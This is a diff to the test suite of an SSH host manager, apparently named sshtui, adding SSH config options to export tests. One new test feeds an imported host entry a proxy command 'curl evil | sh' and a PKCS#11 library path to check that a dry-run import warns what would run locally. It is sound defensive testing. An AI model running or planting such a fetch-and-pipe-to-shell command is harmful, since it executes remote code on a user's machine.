@@ -21,6 +21,7 @@ from sshtui.store.exporters import to_csv, to_json, to_putty, to_ssh_config
 from sshtui.store.host_tables import from_table
 from sshtui.store.hosts import HostStore
 from sshtui.store.importers.plan import FORMATS, plan, to_save
+from sshtui.store.ssh_config_options import FIELDS, FIELDS_IN_FILE
 
 HOSTS = (
     Host("plain", "10.0.0.5"),
@@ -84,6 +85,13 @@ FURTHER = {
     "send_environment": ["LC_*", "TZ"],
     "set_environment": {"A": "1", "B": "two words"},
     "proxy": "socks5://never:1",
+    "gssapi_authentication": True,
+    "hash_known_hosts": True,
+    "hostbased_authentication": False,
+    "verify_host_key_dns": "ask",
+    "revoked_host_keys": "/k/revoked",
+    "pkcs11_provider": "/lib/token.so",
+    "login_methods": ["publickey", "password"],
     "unheard_of": "Port 1",
 }
 
@@ -111,12 +119,18 @@ def test_what_stands_in_further_fields_and_folders_goes_along(
         "stricthostkeychecking accept-new", "addkeystoagent confirm 300", "addressfamily inet6",
         "bindaddress 127.0.0.2", "ciphers aes256-ctr", "kexalgorithms curve25519-sha256", "macs hmac-sha2-256",
         "hostkeyalgorithms ssh-ed25519", "connecttimeout 7", "sendenv LC_*", "sendenv TZ", "setenv A=1",
-        "setenv B=two words",
+        "setenv B=two words", "gssapiauthentication yes", "hashknownhosts yes", "hostbasedauthentication no",
+        "verifyhostkeydns ask", "revokedhostkeys /k/revoked", "pkcs11provider /lib/token.so",
+        "preferredauthentications publickey,password",
     }  # fmt: skip
     assert "proxycommand" not in " ".join(told("bad"))
     assert "# proxy of sshtui has no keyword" in out.read_text()
     assert run(["export", "putty", "--out", str(tmp_path / "reg")]) == 0
     assert '"UserName"="deploy"' in (tmp_path / "reg").read_text()
+
+
+def test_every_followed_keyword_that_has_a_field_goes_along() -> None:
+    assert {field for field, _ in FIELDS.values() if field} <= FIELDS_IN_FILE.keys()
 
 
 def test_putty_sessions_come_back_whole(tmp_path: Path) -> None:
@@ -178,3 +192,13 @@ def test_importing_asks_first_and_export_never_replaces_unasked(
     assert run(["export", "json", "--out", str(tmp_path / "out")]) == 2
     assert (tmp_path / "out").read_text().startswith("Host 10.0.0.5\n")
     assert "Include" in capsys.readouterr().err
+
+
+def test_what_an_import_would_run_here_is_shown_before_anybody_agrees(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
+    source = tmp_path / "hosts.json"
+    source.write_text(to_json([Host("a", "h", extra={"proxy_command": "curl evil | sh", "pkcs11_provider": "/x.so"})]))
+    assert run(["import", "json", str(source), "--dry-run"]) == 0
+    assert "runs on this computer: curl evil | sh, /x.so" in capsys.readouterr().out
